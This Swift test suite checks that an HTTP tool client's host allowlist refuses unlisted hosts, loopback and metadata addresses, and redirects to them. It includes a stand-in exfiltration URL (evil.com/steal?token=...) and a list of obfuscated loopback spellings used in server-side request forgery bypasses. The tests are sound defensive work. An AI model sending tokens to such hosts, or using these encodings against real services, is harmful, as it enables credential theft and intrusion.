import OrbiterCore
import OrbiterTestSupport
import Testing
@testable import OrbiterTools

@Suite("HTTP policy on real requests")
struct HTTPPolicyEnforcementTests {
    @Test("unrestricted: loopback is reachable, and the response carries status, headers, body, URL")
    func unrestricted() async throws {
        try await withServer(["/hello": .json(["ok": true])]) { server throws in
            let response = try await ToolHTTPClient(.unrestricted).perform(get(server.url("/hello?key=secret")))
            #expect(response.status == 200)
            #expect(response.headers["content-type"] == "application/json")
            #expect(response.text == #"{"ok":true}"#)
            #expect(response.url == server.url("/hello"))
        }
    }

    @Test("an exact entry reaches the loopback address it names")
    func exactLoopback() async throws {
        try await withServer(["/hello": .text("hi")]) { server throws in
            let response = try await allowing("127.0.0.1:\(server.port)").perform(get(server.url("/hello")))
            #expect(response.text == "hi")
        }
    }

    @Test("exact localhost:PORT is allowed (resolved and pinned); under * it is refused")
    func localhost() async throws {
        try await withServer(["/hello": .text("hi")]) { server throws in
            let url = "http://localhost:\(server.port)/hello"
            #expect(try await allowing("localhost:\(server.port)").perform(get(url)).text == "hi")
            let error = await #expect(throws: HTTPToolError.self) { try await allowing("*").perform(get(url)) }
            #expect(error?.description == "GET \(url): refused by this worker's policy: localhost resolves to 127.0.0.1, "
                    + "a loopback address; allow it with --allow-host localhost")
            #expect(server.requests.count == 1)
        }
    }

    @Test("a host outside the list is refused, naming the entries")
    func notListed() async throws {
        let error = await #expect(throws: HTTPToolError.self) {
            try await allowing("api.example.com", "*.github.com").perform(get("https://evil.com/steal?token=abc"))
        }
        #expect(error?.description == "GET https://evil.com/steal: refused by this worker's policy: evil.com is not in "
                + "--allow-host (allowed: api.example.com, *.github.com)")
    }

    @Test("under * the metadata address is refused before any connection, with how to allow it")
    func metadata() async throws {
        let error = await #expect(throws: HTTPToolError.self) {
            try await allowing("*").perform(get("http://169.254.169.254/latest/meta-data/"))
        }
        #expect(error?.description == "GET http://169.254.169.254/latest/meta-data/: refused by this worker's policy: "
                + "169.254.169.254 is a link-local address (metadata services live there); allow it with --allow-host 169.254.169.254")
    }

    @Test("odd spellings of loopback and 0.0.0.0 are refused under *", arguments: [
        ("2130706433", "2130706433 resolves to 127.0.0.1, a loopback address; allow it with --allow-host 2130706433"),
        ("0x7f.1", "0x7f.1 resolves to 127.0.0.1, a loopback address; allow it with --allow-host 0x7f.1"),
        ("0177.0.0.1", "0177.0.0.1 resolves to 127.0.0.1, a loopback address; allow it with --allow-host 0177.0.0.1"),
        ("127.1", "127.1 resolves to 127.0.0.1, a loopback address; allow it with --allow-host 127.1"),
        ("0.0.0.0", "0.0.0.0 is a 'this network' address (it reaches this machine); allow it with --allow-host 0.0.0.0"),
        ("[::ffff:127.0.0.1]", "::ffff:127.0.0.1 is an IPv4-mapped form of 127.0.0.1, a loopback address; allow it with --allow-host [::ffff:127.0.0.1]"),
        ("[::1]", "::1 is a loopback address; allow it with --allow-host [::1]"),
        ("[64:ff9b::7f00:1]", "64:ff9b::7f00:1 is a NAT64 form of 127.0.0.1, a loopback address; allow it with --allow-host [64:ff9b::7f00:1]"),
    ])
    func oddSpellings(host: String, why: String) async throws {
        try await withServer(["/": .text("reached")]) { server throws in
            let url = "http://\(host):\(server.port)/"
            let error = await #expect(throws: HTTPToolError.self) { try await allowing("*").perform(get(url)) }
            #expect(error?.cause == .refusedByPolicy(why))
            #expect(server.requests.isEmpty)
        }
    }

    @Test("an exact IP entry does not admit other spellings of the same address")
    func exactIsExact() async throws {
        try await withServer(["/": .text("reached")]) { server throws in
            for host in ["127.1", "2130706433", "0x7f.1"] {
                let error = await #expect(throws: HTTPToolError.self) {
                    try await allowing("127.0.0.1:\(server.port)").perform(get("http://\(host):\(server.port)/"))
                }
                #expect(error?.cause == .refusedByPolicy("\(host) is not in --allow-host (allowed: 127.0.0.1:\(server.port))"))
            }
            #expect(server.requests.isEmpty)
            // The same spelling, unrestricted, does reach the server: the refusals above were the policy's.
            #expect(try await ToolHTTPClient(.unrestricted).perform(get("http://127.1:\(server.port)/")).text == "reached")
        }
    }

    @Test("every redirect hop is checked: a redirect to the metadata address is refused")
    func redirectToMetadata() async throws {
        try await withServer(["/meta": .redirect(to: "http://169.254.169.254/latest/meta-data/?x=1")]) { server throws in
            let error = await #expect(throws: HTTPToolError.self) {
                try await allowing("127.0.0.1:\(server.port)", "*").perform(get(server.url("/meta")))
            }
            #expect(error?.description == "GET http://169.254.169.254/latest/meta-data/: refused by this worker's policy: "
                    + "169.254.169.254 is a link-local address (metadata services live there); allow it with --allow-host 169.254.169.254")
        }
    }

    @Test("a redirect to a host outside the list is refused")
    func redirectOutside() async throws {
        try await withServer(["/away": .redirect(to: "http://localhost:1/x")]) { server throws in
            let error = await #expect(throws: HTTPToolError.self) {
                try await allowing("127.0.0.1:\(server.port)").perform(get(server.url("/away")))
            }
            #expect(error?.description == "GET http://localhost:1/x: refused by this worker's policy: localhost is not in "
                    + "--allow-host (allowed: 127.0.0.1:\(server.port))")
        }
    }

    @Test("a name that does not resolve is said so, under a policy and without")
    func unresolved() async throws {
        for client in [try allowing("*"), ToolHTTPClient(.unrestricted)] {
            let error = await #expect(throws: HTTPToolError.self) {
                try await client.perform(get("http://no-such-host.invalid/x?key=1"))
            }
            #expect(error?.description == "GET http://no-such-host.invalid/x: could not resolve host no-such-host.invalid")
        }
    }
}
